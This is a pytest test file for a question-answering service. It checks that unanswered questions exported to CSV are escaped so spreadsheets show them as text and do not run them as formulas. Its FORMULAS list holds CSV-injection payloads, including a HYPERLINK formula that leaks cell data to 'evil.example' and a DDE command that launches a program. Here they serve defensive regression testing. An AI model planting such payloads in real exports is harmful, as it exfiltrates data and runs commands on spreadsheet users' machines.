"""Issue 17, item 6: questions that start like a spreadsheet formula were exported as typed in
the unanswered CSV, and a spreadsheet would run them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from motcua.storage.database import Database
from motcua.storage.interactions import Interactions
from motcua.types import Answer

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "+1 ngày nghỉ có được không",
    "-2+3 chuyển trường",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def log(tmp_path: Path) -> Interactions:
    database = Database(f"sqlite:///{tmp_path / 'state.sqlite3'}")
    database.migrate()
    yield Interactions(database)
    database.close()


def test_formula_like_questions_are_exported_as_text(log: Interactions) -> None:
    for question in [*FORMULAS, "chuyển trường cần gì"]:
        log.log_answer("rest", None, Answer(question=question, answer="…", refused=True))
    rows = list(csv.reader(io.StringIO(log.unanswered_csv())))[1:]
    cells = {row[0] for row in rows}
    assert {f"'{q}" for q in FORMULAS} <= cells  # shown as typed, never evaluated
    assert "chuyển trường cần gì" in cells  # ordinary questions are left alone
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
